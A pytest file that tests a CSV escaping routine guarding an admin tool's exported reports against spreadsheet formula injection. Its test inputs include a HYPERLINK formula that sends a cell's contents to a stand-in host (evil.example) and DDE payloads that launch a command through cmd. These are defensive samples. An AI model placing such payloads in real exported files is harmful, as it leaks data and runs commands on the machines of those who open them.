"""Report cells a spreadsheet would run as a formula are written as text; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from admin_bulk_upsert.jobs.revert_chunk import KINDS, RevertReport
from admin_bulk_upsert.reports.spreadsheet_safe import escape_cell, safe_writer


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+33 6 12 34 56 78",
    ],
)
def test_a_cell_that_could_start_a_formula_is_text(cell):
    assert escape_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-12.50", "+3", "-1e3", "-0,5", "-.5", "12", "plain text", "a=b", "", "O'Brien"]
)
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert escape_cell(cell) == cell


def test_python_values_keep_their_type_and_none_is_blank():
    assert escape_cell(-3) == -3
    assert escape_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert escape_cell(None) == ""


def test_the_writer_escapes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(["1", "=cmd", "-4.2"])
    writer.writerows([["@x", "ok", -1]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["1", "'=cmd", "-4.2"],
        ["'@x", "ok", "-1"],
    ]


def test_the_revert_report_escapes_the_values_it_echoes():
    report = RevertReport(dict.fromkeys(KINDS, 0), {kind: [] for kind in KINDS})
    report.add("conflict", 7, column="name", imported="=cmd|' /C calc'!A0", current="-5")

    rows = list(csv.reader(io.StringIO(report.buffer.getvalue())))
    assert rows[1] == ["conflict", "7", "name", "'=cmd|' /C calc'!A0", "-5", ""]
